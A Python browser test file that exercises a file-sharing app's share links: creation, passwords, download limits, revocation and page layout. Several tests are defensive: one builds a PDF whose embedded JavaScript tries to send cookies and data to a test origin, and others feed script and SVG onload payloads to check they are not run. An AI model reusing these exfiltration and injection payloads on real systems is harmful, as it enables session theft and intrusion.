"""Share links in a browser: a user makes one, an outsider opens it, also without scripts. Shared files do no harm."""

import io
from datetime import timedelta
from pathlib import Path

import pytest
from playwright.sync_api import expect

from fileshare.models import ShareLink
from fileshare.sharing import shares
from tests.browser.steps import log_in, press
from tests.browser.test_pages import LOOKS, assert_good, assert_good_now
from tests.factories import store_file
from tests.fakes import documents

pytestmark = [pytest.mark.browser, pytest.mark.once, pytest.mark.django_db(transaction=True)]
HOUR = timedelta(hours=1)


@pytest.fixture(params=LOOKS, ids=lambda look: f"{look[0]}-{look[1]}")
def look(request):
    """Width in pixels and colour scheme of the browser, as options of `visit`."""
    width, scheme = request.param
    return {"viewport": {"width": width, "height": 900}, "color_scheme": scheme}


def fetched(page):
    """Click the page's download button; returns the bytes that arrived."""
    with page.expect_download() as arriving:
        press(page, "Download")
    return Path(arriving.value.path()).read_bytes()


def make_link(page, file, *, password="", limit="", emails="", view=False):
    """Fill in the form on the file's page; returns the address it then shows."""
    page.goto(file.get_absolute_url())
    page.locator(".share-new > summary").click()
    form = page.locator(".share-make")
    if view:
        form.get_by_label("Whoever has the link may").select_option("view")
    else:
        form.get_by_label("Most downloads").fill(limit)
    form.locator("[name=password]").fill(password)
    form.get_by_label("Send it to").fill(emails)
    form.get_by_role("button", name="Make the link").click()
    return page.locator(".share-made code").first.text_content().strip()


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_from_its_maker_to_somebody_outside(scripts, visit, people, company_folder, report, watch):
    content = documents.docx("Terms")
    file = store_file(user=people["uploader"], folder=company_folder, filename="Terms.docx", content=content)
    maker, outsider = visit(java_script_enabled=scripts), visit(java_script_enabled=scripts)
    maker.goto("/login")
    log_in(maker, people["uploader"].email)
    expect(maker.get_by_role("heading", name="Welcome")).to_be_visible()
    address = make_link(maker, file, password="grüne Boote 🛶", limit="1")

    outsider.goto(address)
    expect(outsider.get_by_role("heading", name="Terms.docx")).to_be_visible()
    outsider.get_by_text("Open it on another device").click()
    expect(outsider.locator(".share-qr svg")).to_be_visible()
    outsider.reload()
    watch.expect("403 POST .*/share/.*/download")
    outsider.get_by_label("Password", exact=True).fill("wrong")
    press(outsider, "Download")
    expect(outsider.get_by_role("alert")).to_have_text("That is not the password of this link.")
    outsider.get_by_label("Password", exact=True).fill("grüne Boote 🛶")
    assert fetched(outsider) == content
    assert ShareLink.objects.get().download_count == 1

    watch.expect("410 GET .*/share/")
    outsider.goto(address)
    expect(outsider.get_by_role("heading", name="This link is no longer good")).to_be_visible()
    maker.goto(file.get_absolute_url())
    expect(maker.locator(".share-link")).to_contain_text("1 of 1 download")
    maker.locator(".share-fetches summary").click()
    expect(maker.locator(".share-fetches li")).to_contain_text("Chrome")


def test_a_link_taken_back_stops_at_once(visit, people, report, watch):
    maker, outsider = visit(people["uploader"]), visit()
    address = make_link(maker, report)
    outsider.goto(address)
    maker.goto("/shares/")
    maker.get_by_role("button", name="Revoke: report.docx").click()
    maker.get_by_role("dialog").get_by_role("button", name="Revoke").click()
    expect(maker.get_by_text("The link no longer works.")).to_be_visible()

    watch.expect("410 POST .*/share/")
    press(outsider, "Download")
    expect(outsider.get_by_role("heading", name="This link is no longer good")).to_be_visible()


def test_a_picture_behind_a_password_is_looked_at(visit, people, company_folder):
    picture = store_file(user=people["uploader"], folder=company_folder, filename="plan.png", content=documents.png())
    address = make_link(visit(people["uploader"]), picture, view=True, password="x")
    outsider = visit(java_script_enabled=False)

    outsider.goto(address)
    expect(outsider.locator(".share-figure")).to_have_count(0)
    outsider.get_by_label("Password", exact=True).fill("x")
    press(outsider, "Open")

    expect(outsider.locator(".share-figure img")).to_have_js_property("naturalWidth", 64)
    expect(outsider.get_by_role("button", name="Download")).to_have_count(0)


def scripted_pdf(origin):
    """A PDF whose script tries every way to send data out or to run code in the page."""
    script = (
        f'try {{ this.submitForm("{origin}/leak-form") }} catch (e) {{}}'
        f'try {{ app.launchURL("{origin}/leak-url") }} catch (e) {{}}'
        f"try {{ app.launchURL(\"javascript:fetch('/leak-script?' + document.cookie)\") }} catch (e) {{}}"
        f'try {{ Net.HTTP.request({{cVerb: "GET", cURL: "{origin}/leak-net"}}) }} catch (e) {{}}'
        'app.alert("ran");'
        'try { app.alert("origin: " + document.location + " cookie: " + document.cookie) } catch (e) {}'
    )
    escaped = script.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Annots[6 0 R]>>endobj\n"
        f"5 0 obj<</S/JavaScript/JS({escaped})>>endobj\n"
        "6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>endobj\n"
        "trailer<</Root 1 0 R/Size 7>>\nstartxref\n0\n%%EOF\n"
    ).encode()


def test_a_script_bearing_pdf_reaches_nothing_of_ours(visit, people, company_folder, portal):
    pdf = store_file(user=people["uploader"], folder=company_folder, filename="evil.pdf", content=scripted_pdf(portal))
    page = visit(people["colleague"])
    asked, said = [], []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))

    page.goto(f"{pdf.get_absolute_url()}preview")
    page.wait_for_timeout(3_000)  # the script runs when the PDF opens

    assert not [url for url in asked if "leak" in url]
    assert not [text for text in said if "session" in text or portal in text]
    # The script ran in Chromium's viewer, whose frame keeps our origin despite the page's policy.
    assert "ran" in said


@pytest.mark.parametrize("body", [b"<script>document.title = 'run'</script>", b"<svg onload=\"document.title='run'\">"])
def test_markup_in_a_text_is_shown_and_not_run(body, visit, people, company_folder):
    file = store_file(user=people["uploader"], folder=company_folder, filename="page.txt", content=body)
    page = visit(people["colleague"])

    page.goto(file.get_absolute_url())
    page.get_by_role("link", name="Read it").click()

    expect(page.locator("pre")).to_have_text(body.decode())
    assert page.title() != "run"


def test_an_svg_is_neither_shown_nor_run(visit, people, company_folder, watch):
    body = documents.svg("<circle r='9'/>")
    file = store_file(user=people["uploader"], folder=company_folder, filename="logo.svg", content=body)
    (made,) = shares.create(user=people["uploader"], file_id=file.pk, permission="view", expires_in=HOUR)
    page = visit()

    page.goto(f"/share/{made.token}")
    expect(page.get_by_text("There is no preview of this kind of file")).to_be_visible()
    watch.expect("415 GET .*/preview")
    page.goto(f"/share/{made.token}/preview")
    expect(page.locator("main svg circle")).to_have_count(0)


def test_pages_of_sharing_look_finished(visit, look, people, company_folder, report, watch):
    uploader = people["uploader"]
    uploader.company = people["colleague"].company
    uploader.save()
    image = io.BytesIO(documents.png()).getvalue()
    picture = store_file(user=uploader, folder=company_folder, filename="plan.png", content=image)
    text = store_file(user=uploader, folder=company_folder, filename="words.txt", content=b"words " * 2000)
    long_name = f"{'A rather long name of a document ' * 4}.docx"
    long = store_file(user=uploader, folder=company_folder, filename=long_name)

    def made(file, **facts):
        facts = {"permission": "download", "expires_in": HOUR, **facts}
        return shares.create(user=uploader, file_id=file.pk, **facts)[0].token

    page = visit(**look)
    for token in (
        made(report, max_downloads=3),
        made(long, password="x"),
        made(picture, permission="view"),
        made(text, permission="view"),
        made(picture, permission="view", password="x"),
        made(report, permission="view"),
    ):
        assert_good(page, f"/share/{token}")
    page.locator(".share-qr summary").click()
    assert_good_now(page)

    maker = visit(uploader, **look)
    made(report, emails=["a.rather.long.address.of.somebody@subdomain.example.org"], max_downloads=1)
    shares.revoke(user=uploader, share_id=ShareLink.objects.order_by("-created_at").first().pk)
    make_link(maker, report, limit="2")
    maker.locator(".share-made summary").first.click()
    maker.locator(".share-new > summary").click()
    assert_good_now(maker)
    assert_good(maker, "/shares/")
    assert_good(maker, f"{text.get_absolute_url()}preview")
    assert_good(visit(people["client"], **look), "/shares/")
